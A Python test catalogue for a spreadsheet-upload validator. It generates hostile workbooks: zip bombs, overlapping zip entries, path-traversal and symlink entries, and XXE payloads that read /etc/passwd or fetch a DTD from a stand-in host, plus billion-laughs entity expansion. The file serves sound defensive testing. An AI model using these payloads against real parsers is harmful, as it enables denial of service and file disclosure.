"""Hostile and broken files of our own making, and what must be said of each: the catalogue behind test_hostile.py.

A case is a row: name, what is made, what is wanted of it. Beside every case lies a good form, which must be read.
``python tests/hostile.py [GROUP…]`` prints time and memory of each case; every case runs in a process of its own.

What is wanted: a code (nothing was taken, with this code), several codes with ``|`` where more than one answer is good,
``taken`` (every figure as typed, and nothing to mend) or ``partly`` (some figures, all as typed), each with codes that
must be there too. Many files: a mapping of names.
"""

from __future__ import annotations

import base64
import binascii
import io
import json
import os
import random
import re
import signal
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from time import monotonic, process_time
from types import MappingProxyType

import sheets
import xls
from conftest import KEY, small_plan

from lsindicators import layout

PLAN = small_plan()
UNIT = "xa-hoa-tham"
TYPED = {"F12": "5", "F13": "6", "F17": "7", "F20": "Có", **{f"H{r}": "Báo cáo năm" for r in (12, 13, 17)}}
EXPECTED = {"C01_A": "5", "C01_B": "6", "C09_A": "7", "C43_A": "Có"}
PARTS = sheets.form_parts(PLAN, UNIT, KEY, TYPED)
FORM = sheets.zipped(PARTS)
DATA, BOOK, RELS, ROOT, TYPES, STYLES, CUSTOM = (
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "_rels/.rels",
    "[Content_Types].xml",
    "xl/styles.xml",
    "docProps/custom.xml",
)
SHEET = PARTS[DATA]
HEAD = sheets.HEAD
RANDOM = random.Random(5)

Files = Mapping[str, bytes] | bytes


@dataclass(frozen=True)
class Case:
    group: str
    name: str
    make: Callable[[], Files]
    wanted: str | Mapping[str, str]
    file: str = "bieu.xlsx"


CASES: list[Case] = []


def case(name: str, wanted: str | Mapping[str, str], make: Callable[[], Files], file: str = "bieu.xlsx") -> None:
    CASES.append(Case(GROUP, name, make, wanted, file))


# ------------------------------------------------------------------ how they are made


def form(**changes) -> bytes:
    return sheets.zipped({n: b for n, b in {**PARTS, **changes}.items() if b is not None})


def with_parts(changes: Mapping[str, str | bytes | None]) -> bytes:
    return form(**changes)


def with_rows(xml: str) -> bytes:
    """The form with more rows at the end of its sheet."""
    return form(**{DATA: SHEET.replace("</sheetData>", xml + "</sheetData>")})


def with_after(xml: str) -> bytes:
    return form(**{DATA: SHEET.replace("</worksheet>", xml + "</worksheet>")})


def with_cell(address: str, xml: str) -> bytes:
    """The form with one cell written otherwise."""
    cell = re.compile(f'<c r="{address}"[^>]*?(/>|>.*?</c>)')
    assert cell.search(SHEET)
    return form(**{DATA: cell.sub(lambda _: xml, SHEET)})


def with_relation(kind: str, target: str, mode: str = "", path: str = RELS) -> bytes:
    relation = f'<Relationship Id="rX" Type="{sheets.RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    empty = f'{HEAD}<Relationships xmlns="{sheets.PACKAGE}/relationships"></Relationships>'
    return form(**{path: PARTS.get(path, empty).replace("</Relationships>", relation)})


def with_type(old: str, new: str, **more) -> bytes:
    assert old in PARTS[TYPES]
    return form(**{TYPES: PARTS[TYPES].replace(old, new)}, **more)


def with_texts(xml: str, cell: str) -> bytes:
    """The form with a part of shared strings, and one cell that refers to it."""
    relation = f'<Relationship Id="rS" Type="{sheets.RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>'
    return form(
        **{
            "xl/sharedStrings.xml": f'{HEAD}<sst xmlns="{sheets.MAIN}">{xml}</sst>',
            RELS: PARTS[RELS].replace("</Relationships>", relation + "</Relationships>"),
            DATA: re.sub(r'<c r="F12"[^>]*>.*?</c>', lambda _: cell, SHEET),
        }
    )


def patched(content: bytes, name: str, *, local: Mapping[int, bytes] = {}, listed: Mapping[int, bytes] = {}) -> bytes:
    """``content`` with bytes changed in the local header and in the directory entry of ``name``."""
    raw = bytearray(content)
    for mark, at_name, changes in ((b"PK\x03\x04", 30, local), (b"PK\x01\x02", 46, listed)):
        place = next(
            m.start()
            for m in re.finditer(re.escape(mark), content)
            if content[m.start() + at_name :].startswith(name.encode())
        )
        for at, value in changes.items():
            raw[place + at : place + at + len(value)] = value
    return bytes(raw)


def raw_zip(entries: list[tuple[bytes, bytes, int]], *, comment: bytes = b"") -> bytes:
    """A zip file written by hand: name, content, how many times it is listed."""
    body, listed = b"", b""
    for name, content, times in entries:
        packed = zlib.compress(content, 9)[2:-4]
        facts = struct.pack("<IIIHH", zlib.crc32(content), len(packed), len(content), len(name), 0)
        entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0x800, 8, 0, 0x5C61) + facts
        listed += (entry + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name) * times
        body += b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0x800, 8, 0, 0x5C61) + facts + name + packed
    count = min(sum(times for *_, times in entries), 65535)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(listed), len(body), len(comment))
    return body + listed + b"PK\x05\x06" + end + comment


def streamed(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip file whose local headers do not know the sizes: they follow in data descriptors."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return pipe.getvalue()


def with_zip64(parts: Mapping[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            with archive.open(name, "w", force_zip64=True) as entry:
                entry.write(body.encode() if isinstance(body, str) else body)
    return stream.getvalue()


def with_end_64(content: bytes) -> bytes:
    """A zip file with an end record of zip64 before its own, which then tells nothing."""
    size, at = struct.unpack_from("<II", content, len(content) - 10)
    count = struct.unpack_from("<H", content, len(content) - 12)[0]
    large = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, at)
    place = b"PK\x06\x07" + struct.pack("<IQI", 0, len(content) - 22, 1)
    return (
        content[:-22]
        + large
        + place
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def noise(length: int) -> bytes:
    return RANDOM.randbytes(length)


def words(length: int) -> str:
    """A text that cannot be packed tightly, as a text is."""
    return noise(length // 2 + 1).hex()[:length]


def ole(*streams: str, body: bytes = b"") -> bytes:
    content = bytes.fromhex("d0cf11e0a1b11ae1").ljust(512, b"\0")
    for name in ("Root Entry", *streams):
        raw = name.encode("utf-16-le") + b"\0\0"
        content += raw.ljust(64, b"\0") + len(raw).to_bytes(2, "little") + b"\0" * 62
    return content.ljust(2048, b"\0") + body


BIFF = bytes.fromhex("09081000000605000000000000000000")

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
CALC = "application/vnd.oasis.opendocument.spreadsheet"


def ods(
    after: str = "",
    *,
    sheet: str = SHEET,
    content: str | bytes | None = None,
    before: str = "",
    spoilt: str = "",
    **parts,
) -> bytes:
    """The form as an .ods; ``after`` are more rows below it, ``before`` stands before the root, ``spoilt`` in F12."""
    book = {
        layout.address(int(m[2]) - 1, _column(m[1])): m[3]
        for m in re.finditer(r'<c r="([A-Z]+)(\d+)"[^>]*>(.*?)</c>', sheet, re.DOTALL)
    }
    rows = []
    for row in range(1, 40):
        cells = []
        for column in range(10):
            told = book.get(layout.address(row - 1, column), "")
            text = re.sub("<[^>]+>", "", told).replace("\n", "</text:p><text:p>")
            if spoilt and (row, column) == (12, 5):
                cells.append(spoilt)
            elif told.startswith("<v>"):
                cells.append(
                    f'<table:table-cell office:value-type="float" office:value="{text}"><text:p>{text}</text:p></table:table-cell>'
                )
            elif text:
                cells.append(f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>')
            else:
                cells.append("<table:table-cell/>")
        rows.append(f"<table:table-row>{''.join(cells)}</table:table-row>")
    whole = (
        f'{HEAD}{before}<office:document-content xmlns:office="{OFFICE}" xmlns:table="{TABLE}" xmlns:text="{TEXT}" '
        f'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="{layout.DATA}">'
        f"{''.join(rows)}{after}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{CALC}"/></manifest:manifest>'
    )
    named = {"mimetype": CALC, "content.xml": content if content is not None else whole}
    return sheets.zipped({**named, "META-INF/manifest.xml": manifest, **{n: b for n, b in parts.items() if b}})


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _column(letters: str) -> int:
    column = 0
    for letter in letters:
        column = column * 26 + ord(letter) - 64
    return column - 1


def mail(*parts: bytes, head: bytes = b"", boundary: bytes = b"b1") -> bytes:
    """An e-mail written by hand around whole parts."""
    return (
        b"From: xa@langson.gov.vn\r\nTo: khcn@langson.gov.vn\r\nDate: Sat, 28 Mar 2026 02:15:00 +0000\r\n"
        + head
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="'
        + boundary
        + b'"\r\n\r\n'
        + b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
        + b"--"
        + boundary
        + b"--\r\n"
    )


def attached(
    name: bytes, content: bytes = FORM, *, encoding: bytes = b"base64", kind: bytes = b"application/octet-stream"
) -> bytes:
    body = {
        b"base64": base64.encodebytes,
        b"quoted-printable": lambda raw: binascii.b2a_qp(raw, istext=False),
        b"8bit": lambda raw: raw,
    }[encoding](content)
    told = b"\r\nContent-Disposition: attachment; " + name if name else b""
    return b"Content-Type: " + kind + told + b"\r\nContent-Transfer-Encoding: " + encoding + b"\r\n\r\n" + body


FILE = b'filename="a.xlsx"'
ANY = "unreadable-file|too-large"

# ------------------------------------------------------------------ zip containers that are, or seem, workbooks

# fmt: off
GROUP = "zip"
for percent in (1, 5, 25, 50, 75, 95, 99):
    case(f"truncated at {percent} %", "unreadable-file", lambda p=percent: FORM[: len(FORM) * p // 100])
case("without its last byte", "unreadable-file", lambda: FORM[:-1])
case("without its first byte", "unreadable-file", lambda: FORM[1:])
case("first 4 bytes alone", "unreadable-file", lambda: FORM[:4])
case("end record alone", "unsupported-format", lambda: b"PK\x05\x06" + bytes(18))
case("end record that points nowhere", "unreadable-file", lambda: FORM[:-22] + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0")
case("text before it", "unreadable-file", lambda: b"HTTP/1.1 200 OK\r\n\r\n" + FORM)
case("another form before it", "unreadable-file", lambda: sheets.form(PLAN, "so-khcn", KEY) + FORM)
case("junk after it", "taken", lambda: FORM + b"\0" * 1000)
case("100 kB of junk after it", "unreadable-file", lambda: FORM + noise(100_000))
case("line ends changed by a mail program", "unreadable-file", lambda: FORM.replace(b"\n", b"\r\n"))
case("two end records", "unreadable-file", lambda: FORM + FORM[-22:])
case("comment", "taken", lambda: FORM[:-2] + b"\x05\0xin c")
case("comment with an end record in it", "unsupported-format|unreadable-file", lambda: FORM[:-2] + b"\x16\0PK\x05\x06" + bytes(18))
case("comment longer than the file", "unreadable-file|taken", lambda: FORM[:-2] + b"\xff\xff")
case("lists itself without end", "unreadable-file", lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 60_000)]))
case("500 parts", "too-large", lambda: form(**{f"xl/media/{i}.png": "x" for i in range(500)}))
case("65,000 parts", ANY, lambda: form(**{f"xl/{i}": "" for i in range(65_000)}))
case("180,000 directory entries", "too-large", lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 180_000)]))
case("part of 4 MB of zeros", "too-large", lambda: form(**{"xl/media/a.bin": b"\0" * (4 << 20)}))
case("sheet of 2 GB of spaces", ANY, lambda: bomb(DATA, 2 << 30))
case("styles of 500 MB of spaces", "too-large", lambda: bomb(STYLES, 500 << 20))
case("content types of 500 MB of spaces", "too-large", lambda: bomb(TYPES, 500 << 20))
case("property part of 1 GB", ANY, lambda: bomb("docProps/core.xml", 1 << 30))
case("parts that overlap", ANY, lambda: overlapping())
case("parts within each other (Fifield)", ANY, lambda: nested_entries())
case("size told too small", "unreadable-file", lambda: patched(FORM, DATA, listed={24: b"\x10\0\0\0"}))
case("size told too large", "unreadable-file", lambda: patched(FORM, DATA, listed={24: b"\0\0\x10\0"}))
case("size told as 4 GB", ANY, lambda: patched(FORM, DATA, listed={24: b"\xff\xff\xff\xff"}))
case("packed size told as 4 GB", ANY, lambda: patched(FORM, DATA, listed={20: b"\xfe\xff\xff\xff"}))
case("checksum wrong", "unreadable-file", lambda: patched(FORM, DATA, listed={16: b"\0\0\0\0"}))
case("checksum wrong in the local header alone", "taken", lambda: patched(FORM, DATA, local={14: b"\0\0\0\0"}))
case("other name in the local header", "taken", lambda: patched(FORM, DATA, local={30: b"XL"}))
case("no local header", "unreadable-file", lambda: patched(FORM, DATA, local={0: b"XXXX"}))
case("sizes after the data", "taken", lambda: streamed(PARTS))
case("zip64", "taken", lambda: with_zip64(PARTS))
case("password", "encrypted-file", lambda: patched(FORM, DATA, local={6: b"\x01"}, listed={8: b"\x01"}))
for method, told in ((1, "shrunk"), (9, "deflate64"), (12, "bzip2"), (14, "lzma"), (93, "zstd"), (99, "AES")):
    case(f"packed as {told}", "unreadable-file", lambda m=method: patched(FORM, DATA, listed={10: m.to_bytes(2, "little")}))
case("stored", "taken", lambda: sheets.zipped(PARTS, method=zipfile.ZIP_STORED))
case("deflated data damaged", "unreadable-file", lambda: FORM[:2000] + noise(8) + FORM[2008:])
case("absolute name", "unreadable-file", lambda: form(**{"/etc/passwd": "x"}))
case("name with ..", "unreadable-file", lambda: form(**{"xl/../../x": "x"}))
case("name with a drive", "unreadable-file", lambda: form(**{"C:\\x.xml": "x"}))
case("name with NUL", "unreadable-file", lambda: named(b"xl/a\0.xml"))
case("empty name", "unreadable-file", lambda: named(b""))
case("name of 60,000 characters", "taken", lambda: named(b"x" * 60_000))
case("undecodable name", "unreadable-file", lambda: named(b"\xff\xfe\x80"))
case("other name in the Unicode field", "taken", lambda: unicode_path())
case("names with backslashes", "taken", lambda: sheets.zipped({n.replace("/", "\\"): b for n, b in PARTS.items()}))
case("names in capitals", "taken", lambda: sheets.zipped({n.upper() if n != TYPES else n: b for n, b in PARTS.items()}))
case("a part twice", "unreadable-file", lambda: raw_zip([(n.encode(), b.encode(), 1) for n, b in [*PARTS.items(), (DATA, SHEET.replace("<v>5<", "<v>9<"))]]))
case("a part twice in other case", "unreadable-file", lambda: form(**{DATA.upper(): SHEET}))
case("symbolic link", "unreadable-file", lambda: patched(FORM, DATA, listed={5: b"\x03", 38: b"\0\0\xff\xa1"}))
case("folders", "taken", lambda: form(**{"xl/": "", "xl/worksheets/": "", "_rels/": ""}))
case("200 parts more", "taken", lambda: form(**{f"xl/media/{i}.png": "x" for i in range(200)}))


def bomb(name: str, size: int) -> bytes:
    """The form with a part that unpacks to ``size`` bytes, made without ever having them."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block, check = b" " * (1 << 20), 0
    packed = (deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)) * (size >> 20) + b"\x03\0"
    for _ in range(size >> 20):
        check = zlib.crc32(block, check)
    content = form(**{name: "?" * 9})
    entry = content.index(name.encode()) - 30
    start = entry + 30 + len(name)
    old = int.from_bytes(content[entry + 18 : entry + 22], "little")
    shift = len(packed) - old
    raw = bytearray(content[:start] + packed + content[start + old :])
    facts = struct.pack("<III", check, len(packed), size)
    raw[entry + 14 : entry + 26] = facts
    for m in list(re.finditer(b"PK\x01\x02", bytes(raw))):
        place = m.start()
        if raw[place + 46 :].startswith(name.encode()):
            raw[place + 16 : place + 28] = facts
        at = int.from_bytes(raw[place + 42 : place + 46], "little")
        if at > entry:
            raw[place + 42 : place + 46] = (at + shift).to_bytes(4, "little")
    end = raw.rindex(b"PK\x05\x06")
    at = int.from_bytes(raw[end + 16 : end + 20], "little") + shift
    raw[end + 16 : end + 20] = at.to_bytes(4, "little")
    return bytes(raw)


def overlapping() -> bytes:
    content = form(**{"xl/media/a.bin": b"\0" * 100_000})
    at = content.index(b"xl/media/a.bin") - 30
    return patched(content, DATA, listed={42: at.to_bytes(4, "little")})


def nested_entries() -> bytes:
    """Each part is a stored block that holds the next local header: one kernel of zeros, counted many times."""
    kernel = zlib.compress(b"\0" * (1 << 20), 9)[2:-4]
    names = [f"xl/media/{i:03}".encode() for i in range(200)]
    listed, at, body = b"", 0, b""
    for name in names:
        body += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(kernel), 1 << 20, len(name), 0) + name
        listed += (
            b"PK\x01\x02"
            + struct.pack(
                "<HHHHHHIIIHHHHHII",
                20,
                20,
                0,
                8,
                0,
                0,
                0,
                len(kernel) + 40 * 200,
                1 << 20,
                len(name),
                0,
                0,
                0,
                0,
                0,
                at,
            )
            + name
        )
        at = len(body)
    body += kernel
    end = struct.pack("<HHHHIIH", 0, 0, 200, 200, len(listed), len(body), 0)
    types = b"[Content_Types].xml"
    return (body + listed + b"PK\x05\x06" + end).replace(names[0], types[: len(names[0])])


def named(name: bytes) -> bytes:
    return raw_zip([(n.encode(), b.encode(), 1) for n, b in PARTS.items()] + [(name, b"<a/>", 1)])


def unicode_path() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, body in PARTS.items():
            entry = zipfile.ZipInfo(name)
            other = b"xl/../../other.xml"
            entry.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(name.encode())) + other
            archive.writestr(entry, body)
    return stream.getvalue()


# ------------------------------------------------------------------ XML

GROUP = "xml"
ENTITY = '<!DOCTYPE x [<!ENTITY a "10"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/x.dtd"> %a;]>'


def after_head(xml: str, more: str) -> str:
    return xml.replace(HEAD, HEAD + more, 1) if xml.startswith(HEAD) else more + xml


for part, told in (
    (DATA, "sheet"), (BOOK, "workbook"), (RELS, "relations"), (ROOT, "root relations"), (TYPES, "content types"),
    (STYLES, "styles"), (CUSTOM, "properties"), ("xl/worksheets/sheet3.xml", "the scratch sheet"),
):  # fmt: skip
    case(f"DOCTYPE in {told}", "unreadable-file", lambda p=part: form(**{p: after_head(PARTS[p], ENTITY)}))
for part in (
    "docProps/core.xml", "docProps/app.xml", "customXml/item1.xml", "xl/drawings/drawing1.xml", "xl/comments1.xml",
    "xl/drawings/vmlDrawing1.vml", "xl/theme/theme1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels",
):  # fmt: skip
    case(f"DOCTYPE in {part}", "unreadable-file", lambda p=part: form(**{p: HEAD + EXTERNAL + "<x>&a;</x>"}))
case("entity from a file", "unreadable-file", lambda: form(**{DATA: after_head(SHEET, EXTERNAL).replace("<v>5<", "<v>&a;<")}))
case("entity over the net", "unreadable-file", lambda: form(**{DATA: after_head(SHEET, PARAMETER)}))
case("entities a billion times", "unreadable-file", lambda: form(**{DATA: after_head(SHEET, "<!DOCTYPE l [<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10)) + "]>").replace("<v>5<", "<v>&l9;<")}))
case("entity nowhere told", "unreadable-file", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v>&x;<")}))
case("nested 100,000 deep", "unreadable-file", lambda: with_rows("<a>" * 100_000 + "</a>" * 100_000))
case("styles nested 100,000 deep", "unreadable-file", lambda: form(**{STYLES: "<a>" * 100_000 + "</a>" * 100_000}))
case("theme nested 300,000 deep", "taken", lambda: form(**{"xl/theme/theme1.xml": b"<a>" * 300_000}))
case("attribute of 4 MB", "unreadable-file", lambda: with_rows(f'<row x="{noise(1 << 16).hex() * 32}"/>'))
case("comment of 4 MB", "unreadable-file", lambda: with_rows(f"<!--{noise(1 << 16).hex() * 32}-->"))
case("a tag that does not end", "too-large", lambda: form(**{DATA: SHEET[:2000] + "<row " + 'a="1" ' * 3_000_000}))
case("300,000 attributes", "unreadable-file", lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(300_000)) + "/>"))
case("100,000 attributes", "taken", lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>"))
case("an attribute twice", "unreadable-file", lambda: with_rows('<row r="99" r="98"/>'))
case("50,000 namespaces", "taken", lambda: with_after("".join(f'<a{i}:x xmlns:a{i}="u{i}"/>' for i in range(50_000))))
case("UTF-16", "taken", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-16").encode("utf-16")}))
case("UTF-16 without a mark", "taken", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-16").encode("utf-16-be")}))
case("UTF-8 with a mark", "taken", lambda: form(**{DATA: b"\xef\xbb\xbf" + SHEET.encode()}))
case("UTF-8 that says ASCII", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "US-ASCII").encode()}))
case("UTF-8 that says latin-1", "sheet-missing", lambda: form(**{DATA: SHEET.replace("UTF-8", "ISO-8859-1").encode()}))
case("UTF-7", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-7").encode("utf-7")}))
case("UTF-32", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-32").encode("utf-32")}))
case("EBCDIC", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "cp037").encode("cp037", "replace")}))
case("an encoding that is none", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "x-none").encode()}))
case("broken UTF-8", "unreadable-file", lambda: form(**{DATA: SHEET.encode().replace("Số".encode(), b"S\xe1\xbb")}))
case("XML 1.1", "taken", lambda: form(**{DATA: SHEET.replace('version="1.0"', 'version="1.1"')}))
case("NUL inside", "unreadable-file", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v>5\0<")}))
case("a character that XML forbids", "unreadable-file", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v>&#1;5<")}))
case("CDATA", "taken", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v><![CDATA[5]]><")}))
case("CDATA that hides an end", "partly not-a-number", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v><![CDATA[5</v></c>]]><")}))
case("processing instructions", "taken", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v><?x y?>5<!-- 6 --><")}))
case("other prefix", "taken", lambda: form(**{DATA: re.sub(r"<(/?)(\w)", r"<\1x:\2", SHEET.removeprefix(HEAD)).replace("xmlns=", "xmlns:x=")}))
case("foreign elements around the figures", "taken", lambda: form(**{DATA: SHEET.replace("<v>5</v>", "<z><y/></z><v>5</v>")}))
case("two roots", "unreadable-file", lambda: form(**{DATA: SHEET + "<worksheet/>"}))
case("text after the root", "unreadable-file", lambda: form(**{DATA: SHEET + "x"}))
case("end tags crossed", "unreadable-file", lambda: form(**{DATA: SHEET.replace("</sheetData></worksheet>", "</worksheet></sheetData>", 1).replace("</sheetData>", "</worksheet>", 1)}))
case("not closed", "unreadable-file", lambda: form(**{DATA: SHEET.removesuffix("</worksheet>")}))
case("no text at all in a part", "unreadable-file", lambda: form(**{DATA: ""}))
case("no text in a property part", "taken", lambda: form(**{"docProps/core.xml": "", "docProps/app.xml": "<"}))
case("million elements in styles", "too-large", lambda: form(**{STYLES: "<styleSheet>" + "<a/>" * 1_000_000 + "</styleSheet>"}))
case("million relations", "too-large", lambda: form(**{"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships>" + "<Relationship/>" * 1_000_000 + "</Relationships>"}))
case("300,000 defined names", "too-large", lambda: form(**{BOOK: PARTS[BOOK].replace("<definedNames>", "<definedNames>" + '<definedName name="a">1</definedName>' * 300_000)}))
case("million properties", "too-large", lambda: form(**{CUSTOM: PARTS[CUSTOM].replace("</Properties>", "<property/>" * 1_000_000 + "</Properties>")}))

# ------------------------------------------------------------------ packages

GROUP = "package"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
BINARY_TYPE = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
case("template .xltx", "taken", lambda: with_type(MAIN_TYPE, TEMPLATE_TYPE), "bieu.xltx")
case("template with macros", "taken macro-present", lambda: with_type(MAIN_TYPE, MACRO_TYPE.replace("sheet.mac", "template.mac")), "bieu.xltm")
case("macros .xlsm", "taken macro-present", lambda: with_type(MAIN_TYPE, MACRO_TYPE, **{"xl/vbaProject.bin": noise(3000)}), "bieu.xlsm")
case("macros in an .xlsx", "taken macro-present", lambda: form(**{"xl/vbaProject.bin": noise(3000)}))
case("macro type without macros", "taken macro-present", lambda: with_type(MAIN_TYPE, MACRO_TYPE))
case("signed macros under another name", "taken macro-present", lambda: form(**{"xl/X/VBAPROJECT.BIN": b"x"}))
case(".xlsb", "unsupported-format", lambda: sheets.zipped({TYPES: PARTS[TYPES].replace(MAIN_TYPE, BINARY_TYPE), "xl/workbook.bin": noise(900)}), "bieu.xlsb")
case("Strict Open XML", "taken", lambda: sheets.zipped({n: b.replace(sheets.MAIN, STRICT).replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships", "http://purl.oclc.org/ooxml/officeDocument/relationships") for n, b in PARTS.items()}))
case("two workbooks: types and relations differ", "unreadable-file", lambda: with_type('PartName="/xl/workbook.xml"', 'PartName="/xl/other.xml"', **{"xl/other.xml": PARTS[BOOK]}))
case("two workbooks by relations", "unreadable-file", lambda: form(**{"xl/other.xml": PARTS[BOOK], ROOT: PARTS[ROOT].replace("</Relationships>", f'<Relationship Id="rX" Type="{sheets.RELATIONS}/officeDocument" Target="xl/other.xml"/></Relationships>')}))
case("two workbooks by types", "unreadable-file", lambda: form(**{TYPES: PARTS[TYPES].replace("</Types>", f'<Override PartName="/xl/other.xml" ContentType="{MAIN_TYPE}"/></Types>')}))
case("a Word document as well", "taken", lambda: form(**{"word/document.xml": "<x/>"}))
case("Word document named .xlsx", "unsupported-format", lambda: sheets.zipped({TYPES: PARTS[TYPES], "word/document.xml": "<x/>"}))
case("slides named .xlsx", "unsupported-format", lambda: sheets.zipped({TYPES: PARTS[TYPES], "ppt/presentation.xml": "<x/>"}))
case("no workbook", "unreadable-file", lambda: form(**{BOOK: None}))
case("no content types", "unreadable-file", lambda: form(**{TYPES: None}))
case("no relations", "unreadable-file", lambda: form(**{ROOT: None}))
case("no sheet", "unreadable-file", lambda: form(**{DATA: None}))
case("no styles", "taken", lambda: form(**{STYLES: None}))
case("no sheets listed", "unreadable-file", lambda: form(**{BOOK: re.sub("<sheet .*?/>", "", PARTS[BOOK])}))
case("1,000 sheets listed", "too-large", lambda: form(**{BOOK: PARTS[BOOK].replace("<sheets>", "<sheets>" + '<sheet name="a" r:id="rId3"/>' * 1_000)}))
case("a sheet listed twice", "unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace("<sheets>", '<sheets><sheet name="x" r:id="rId1"/>')}))
case("two sheets of one name", "unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace('name="Nháp"', f'name="{layout.GUIDE}"')}))
case("two sheets over one part", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace("sheet2.xml", "sheet1.xml")}))
case("a sheet without a relation", "unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace('r:id="rId1"', 'r:id="rId99"')}))
case("a sheet that is the workbook itself", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace("worksheets/sheet2.xml", "workbook.xml")}))
case("relations with one id", "unreadable-file", lambda: form(**{RELS: re.sub('Id="rId[0-9]+"', 'Id="rId1"', PARTS[RELS])}))
case("targets outside the package", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/sheet1', '"../../../../etc/sheet1')}))
case("the sheet lies outside", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace('Target="worksheets/sheet1.xml"', 'Target="file:///C:/sheet1.xml" TargetMode="External"')}))
case("targets with detours", "taken", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/', '"./x/../worksheets/')}))
case("targets from the root", "taken", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/', '"/xl/worksheets/')}))
case("targets with %", "taken", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/', '"%77orksheets/')}))
for kind in ("chartsheet", "dialogsheet", "xlMacrosheet"):
    case(f"a {kind} as well", "taken", lambda k=kind: form(**{"xl/other1.xml": "<x/>", RELS: PARTS[RELS].replace("</Relationships>", f'<Relationship Id="rX" Type="{sheets.RELATIONS}/{k}" Target="other1.xml"/></Relationships>'), BOOK: PARTS[BOOK].replace("</sheets>", '<sheet name="x" sheetId="9" r:id="rX"/></sheets>')}))
case("the form is a macro sheet", "sheet-missing", lambda: form(**{RELS: PARTS[RELS].replace('/worksheet" Target="worksheets/sheet1', '/xlMacrosheet" Target="worksheets/sheet1')}))
case("embedded documents", "taken", lambda: form(**{"xl/embeddings/oleObject1.bin": noise(50_000), "xl/embeddings/Microsoft_Excel_Sheet1.xlsx": FORM}))
